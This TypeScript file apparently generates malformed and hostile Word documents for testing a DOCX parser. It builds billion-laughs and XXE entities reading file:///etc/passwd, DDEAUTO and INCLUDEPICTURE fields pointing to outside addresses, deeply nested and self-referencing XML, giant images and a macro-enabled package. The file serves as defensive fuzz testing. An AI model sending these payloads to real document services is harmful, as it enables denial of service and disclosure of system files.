import type { Random } from '../../training/content/random.ts';
import { readZip } from '../../training/render/docx/zip.ts';
import { hostileNumber, noise } from './bytes.ts';
import { docx, NAMESPACES, paragraph } from './docx-file.ts';
import { family, type Making } from './kind.ts';
import { sampleOf } from './samples.ts';
import { zipOf } from './zip-file.ts';

/** Elements in one another, a hundred thousand deep: whoever walks them by recursion falls. */
function deepXml({ random }: Making): Buffer {
  const depth = random.pick([200, 3000, 20_000, 100_000]);
  const [open, close] = random.pick([
    ['<w:p><w:r><w:txbxContent>', '</w:txbxContent></w:r></w:p>'],
    ['<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="9"/></w:tblGrid><w:tr><w:tc>', '<w:p/></w:tc></w:tr></w:tbl>'],
    ['<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>'],
    ['<w:smartTag w:element="a">', '</w:smartTag>'],
    ['<mc:AlternateContent><mc:Choice Requires="w">', '</mc:Choice></mc:AlternateContent>'],
    ['<w:hyperlink><w:r><w:fldChar w:fldCharType="begin"/></w:r>', '</w:hyperlink>'],
    ['<m:oMath><m:f><m:num>', '</m:num></m:f></m:oMath>'],
    ['<v:group><v:shape>', '</v:shape></v:group>'],
    ['<x>', '</x>'],
  ] as const);
  return docx({
    body: open.repeat(depth) + paragraph('Ada Lindqvist') + (random.chance(0.9) ? close.repeat(depth) : ''),
  });
}

/** Entities that unfold to gigabytes, or that name files and addresses. */
function entities({ random, address }: Making): Buffer {
  const laughs = Array.from({ length: 12 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`);
  const [type, use] = random.pick([
    [`<!DOCTYPE w:document [<!ENTITY l0 "lol">${laughs.join('')}]>`, '&l12;'],
    [`<!DOCTYPE w:document [<!ENTITY l0 "${'x'.repeat(100_000)}">]>`, '&l0;'.repeat(50_000)],
    ['<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'],
    [`<!DOCTYPE w:document [<!ENTITY x SYSTEM "${address}/entity">]>`, '&x;'],
    [`<!DOCTYPE w:document SYSTEM "${address}/types.dtd">`, 'Ada'],
    [`<!DOCTYPE w:document [<!ENTITY % p SYSTEM "${address}/parameter"> %p;]>`, 'Ada'],
    ['<!DOCTYPE w:document [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'],
    ['<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///dev/zero">]>', '&x;'],
    ['', '&undefined;'],
  ] as const);
  const encoded = random.chance(0.3) ? random.pick(['utf16le', 'utf8'] as const) : null;
  const part = `<?xml version="1.0"?>${type}<w:document ${NAMESPACES}><w:body>${paragraph(use)}</w:body></w:document>`;
  if (encoded === null) return docx({ prologue: type, body: paragraph(use) });
  return docx({ parts: { 'word/document.xml': Buffer.from(`\uFEFF${part}`, encoded) } });
}

/** Every place of a Word document that names something elsewhere. */
function outsideReferences({ random, address }: Making): Buffer {
  const target = random.pick([
    `${address}/x`,
    'file:///etc/passwd',
    `\\\\127.0.0.1@${address.split(':').at(-1)}\\x`,
    'http://[::1]:1/x',
  ]);
  const types = [
    'image',
    'attachedTemplate',
    'subDocument',
    'oleObject',
    'aFChunk',
    'hyperlink',
    'frame',
    'header',
    'styles',
    'font',
    'video',
    'package',
    'externalLink',
    'settings',
    'glossaryDocument',
    'customXml',
    'mailMergeSource',
  ];
  const links = types.map((type, index) => [`x${index}`, type, target] as const);
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const picture = (id: string): string =>
    `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill><pic:spPr><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const body = [
    paragraph('Ada Lindqvist'),
    picture('x0'),
    ...['x4', 'x2'].map((id) => `<w:altChunk r:id="${id}"/><w:subDoc r:id="${id}"/>`),
    `<w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata r:id="x0" src="${target}" o:href="${target}"/></v:shape></w:pict></w:r></w:p>`,
    `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.12" r:id="x3" UpdateMode="Always"/></w:object></w:r></w:p>`,
    ...['INCLUDEPICTURE', 'INCLUDETEXT', 'DDEAUTO', 'LINK Word.Document.12', 'RD', 'IMPORT', 'HYPERLINK'].map((word) =>
      field(`${word} "${target}" \\d`),
    ),
  ];
  return docx({ body: random.sample(body, random.int(2, body.length)).join(''), links });
}

/** Styles that are based on themselves, lists that are their own templates, headers that hold themselves. */
function innerLoops({ random }: Making): Buffer {
  const length = random.pick([1, 2, 5000]);
  const styles = Array.from(
    { length },
    (_, index) =>
      `<w:style w:type="paragraph" w:styleId="s${index}"><w:name w:val="s${index}"/><w:basedOn w:val="s${(index + 1) % length}"/><w:next w:val="s${(index + 1) % length}"/><w:link w:val="s${(index + 1) % length}"/></w:style>`,
  );
  const lists = `<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s0"/><w:lvl w:ilvl="0"><w:pStyle w:val="s0"/><w:lvlText w:val="${'%1'.repeat(5000)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`;
  return docx({
    body:
      paragraph(
        'Ada Lindqvist',
        '<w:pPr><w:pStyle w:val="s0"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>',
      ).repeat(50) + '<w:altChunk r:id="self"/><w:altChunk r:id="main"/>',
    links: [
      ['self', 'aFChunk', '../word/document.xml'],
      ['main', 'officeDocument', 'document.xml'],
      ['head', 'header', 'document.xml'],
    ],
    parts: {
      'word/styles.xml': `<w:styles ${NAMESPACES}>${styles.join('')}</w:styles>`,
      'word/numbering.xml': `<w:numbering ${NAMESPACES}>${lists}</w:numbering>`,
    },
  });
}

/** More paragraphs, cells, runs, fields or footnotes than anybody lays out. */
function storm({ random }: Making): Buffer {
  const cell = '<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>';
  const row = `<w:tr>${cell.repeat(63)}</w:tr>`;
  const body = random.pick([
    () => paragraph('').repeat(1_000_000),
    () => paragraph('Ada').repeat(random.pick([20_000, 300_000])),
    () => `<w:tbl>${row.repeat(random.pick([200, 5000]))}</w:tbl>`,
    () => `<w:p>${'<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r>'.repeat(200_000)}</w:p>`,
    () => paragraph('a'.repeat(5_000_000)),
    () =>
      paragraph(
        'A'.repeat(50),
        '<w:pPr><w:framePr w:w="500" w:hRule="exact" w:wrap="around" w:x="1" w:y="1"/></w:pPr>',
      ).repeat(5000),
    () => `<w:p>${'<w:r><w:br w:type="page"/></w:r>'.repeat(20_000)}</w:p>`,
    () => `<w:p>${'<w:bookmarkStart w:id="1" w:name="a"/>'.repeat(200_000)}</w:p>`,
    () => `${paragraph('x')}<w:sectPr><w:cols w:num="45"/></w:sectPr>`.repeat(3000),
  ])();
  return docx({ body });
}

/** Sizes, widths and indents from the edges of the numbers. */
function hostileMeasures({ random }: Making): Buffer {
  const number = (): string => hostileNumber(random);
  const table = `<w:tbl><w:tblPr><w:tblW w:w="${number()}" w:type="dxa"/></w:tblPr><w:tblGrid><w:gridCol w:w="${number()}"/></w:tblGrid><w:tr><w:trPr><w:trHeight w:val="${number()}"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="${number()}"/><w:vMerge/></w:tcPr>${paragraph('cell')}</w:tc></w:tr></w:tbl>`;
  const run = `<w:p><w:pPr><w:ind w:left="${number()}" w:hanging="${number()}"/><w:spacing w:line="${number()}" w:before="${number()}"/><w:tabs><w:tab w:val="left" w:pos="${number()}"/></w:tabs></w:pPr><w:r><w:rPr><w:sz w:val="${number()}"/><w:w w:val="${number()}"/><w:kern w:val="${number()}"/><w:position w:val="${number()}"/></w:rPr><w:tab/><w:t>Ada Lindqvist</w:t></w:r></w:p>`;
  const section = `<w:sectPr><w:pgSz w:w="${number()}" w:h="${number()}"/><w:pgMar w:top="${number()}" w:bottom="${number()}" w:left="${number()}" w:right="${number()}" w:header="${number()}"/><w:cols w:num="${number()}" w:space="${number()}"/></w:sectPr>`;
  return docx({ body: run + table + run + section });
}

/** Pictures that say they have milliards of pixels, inside the package. */
function giantPictures({ random }: Making): Buffer {
  const side = random.pick([60_000, 65_535, 0x7fffffff]);
  const png = Buffer.concat([
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    size(side),
    size(side),
    Buffer.from('0806000000', 'hex'),
    noise(random, 400),
  ]);
  const emf = Buffer.alloc(4000);
  emf.writeUInt32LE(1, 0);
  emf.writeUInt32LE(108, 4);
  for (let at = 8; at < 40; at += 4) emf.writeInt32LE(random.int(-100_000, 2_000_000_000), at);
  emf.write(' EMF', 40, 'latin1');
  const bmp = Buffer.concat([
    Buffer.from('BM'),
    noise(random, 12),
    Buffer.from([40, 0, 0, 0]),
    size(side),
    size(side),
    noise(random, 500),
  ]);
  const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([0xff, 0xff, 0xff, 0xff]), noise(random, 500)]);
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"><image href="file:///etc/passwd"/><g id="a"><use href="#a"/></g></svg>`,
  );
  const picture = random.pick([png, emf, bmp, gif, svg, noise(random, 2000)]);
  const extent = random.pick(['914400', '2147483647', '-1']);
  const drawing = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="${extent}" cy="${extent}"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="pic"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="${extent}" cy="${extent}"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  return docx({
    body: paragraph('Ada Lindqvist') + drawing.repeat(random.pick([1, 300])),
    links: [['pic', 'image', 'media/a.png']],
    parts: { 'word/media/a.png': picture },
  });
}

function size(side: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(side);
  return bytes;
}

/** XML that is none, in every part. */
function brokenXml({ random }: Making): Buffer {
  const broken = random.pick([
    '',
    '<',
    '<w:document',
    '<a></b>',
    '\0\0\0',
    `<w:document ${'a'.repeat(1_000_000)}="x"/>`,
    `<w:document ${Array.from({ length: 50_000 }, (_, index) => `a${index}="x"`).join(' ')}/>`,
    `<${'w'.repeat(2_000_000)}/>`,
    `<!--${'-'.repeat(2_000_000)}`,
    '<![CDATA['.repeat(100_000),
    '<?xml version="1.0" encoding="UTF-32"?><a/>',
    '<?xml version="1.0" encoding="x-unknown"?><a/>',
    `<a xmlns:${'b'.repeat(500_000)}="c"/>`,
    noise(random, 5000).toString('latin1'),
  ]);
  const name = random.pick([
    'word/document.xml',
    '[Content_Types].xml',
    '_rels/.rels',
    'word/_rels/document.xml.rels',
    'word/styles.xml',
    'docProps/core.xml',
  ]);
  return docx({ parts: { [name]: broken } });
}

/** Numbers and names in the XML of a sample, changed to hostile ones. */
function attributesChanged({ random }: Making): Buffer {
  const parts = readZip(sampleOf('docx', random));
  const name = random.pick([...parts.keys()].filter((part) => part.endsWith('.xml')));
  const xml = parts.get(name)?.toString() ?? '';
  const changed = xml.replaceAll(/="([^"]*)"/g, (whole, value: string) =>
    random.chance(0.03)
      ? `="${random.pick([hostileNumber(random), value.repeat(50), '', 'none', someWord(random)])}"`
      : whole,
  );
  parts.set(name, Buffer.from(changed));
  return zipOf(parts);
}

/** Elements of a sample doubled, lost, or put into one another. */
function elementsChanged({ random }: Making): Buffer {
  const parts = readZip(sampleOf('docx', random));
  const xml = parts.get('word/document.xml')?.toString() ?? '';
  const pieces = xml.split(/(?=<w:(?:p|r|tbl|tr|tc|sectPr)[ >])/);
  const changed = pieces.flatMap((piece, index) => {
    if (index === 0 || random.chance(0.9)) return [piece];
    return random.pick([
      [],
      [piece, piece],
      [random.pick(pieces)],
      [`<w:sdt><w:sdtContent>${piece}`],
      Array.from({ length: 500 }, () => piece),
    ]);
  });
  parts.set('word/document.xml', Buffer.from(changed.join('')));
  return zipOf(parts);
}

function someWord(random: Random): string {
  return random.pick(['true', 'w:p', '%1', '&amp;', '/', '#auto', 'rId1', '../x']);
}

/** A document with everything that a macro needs to run by itself. */
function macros({ random }: Making): Buffer {
  const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`;
  const field = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> MACROBUTTON AutoOpen </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const body = paragraph('Ada Lindqvist') + field;
  const links = [['vba', 'vbaProject', 'vbaProject.bin']] as const;
  return docx({ body, links, parts: { '[Content_Types].xml': types, 'word/vbaProject.bin': noise(random, 9000) } });
}

/** Word documents whose XML is hostile. */
export const DOCX_ATTACKS = family('docx', {
  'docx-deep-xml': [deepXml, 3],
  'docx-entities': [entities, 3],
  'docx-outside-references': [outsideReferences, 3],
  'docx-inner-loops': innerLoops,
  'docx-storm': [storm, 2],
  'docx-hostile-measures': [hostileMeasures, 4],
  'docx-giant-pictures': [giantPictures, 2],
  'docx-broken-xml': [brokenXml, 3],
  'docx-attributes-changed': [attributesChanged, 6],
  'docx-elements-changed': [elementsChanged, 6],
  'docx-macros': macros,
});
